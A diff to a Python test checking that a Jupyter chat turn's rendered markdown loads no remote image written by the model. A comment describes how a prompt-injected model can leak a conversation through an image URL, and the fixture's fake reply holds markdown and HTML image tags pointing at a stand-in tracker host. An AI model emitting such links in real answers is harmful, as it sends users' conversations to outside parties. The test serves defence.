@@ -126,6 +126,7 @@ def test_a_turns_markdown_loads_nothing_the_model_wrote(llm_wb, llm_server, docs
     # A prompt-injected model can answer with a remote image that carries the conversation in its URL; Jupyter
     # renders a turn's markdown with raw HTML on, so both forms would load it as soon as the turn is shown.
     from markdown_it import MarkdownIt
+    from notebook_display import shown
 
     pixel = "https://tracker.example/p.png?leak=hybrid"
     llm_server.reply = lambda body: (f"See [1] ![chart]({pixel}) and <img src=\"{pixel}\"> "
@@ -133,7 +134,7 @@ def test_a_turns_markdown_loads_nothing_the_model_wrote(llm_wb, llm_server, docs
     turn = llm_wb.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
 
     assert pixel in turn.answer  # the stored answer is the model's own text
-    html = MarkdownIt("commonmark", {"html": True}).render(turn._repr_markdown_())
+    html = MarkdownIt("commonmark", {"html": True}).render(shown(turn, "text/markdown"))
     assert "<img" not in html and 'src="https://tracker' not in html, html
     assert "<strong>bold</strong>" in html and '<a href="https://docs.example/search">the docs</a>' in html
     assert "docs/search.md" in html  # the sources block is still there
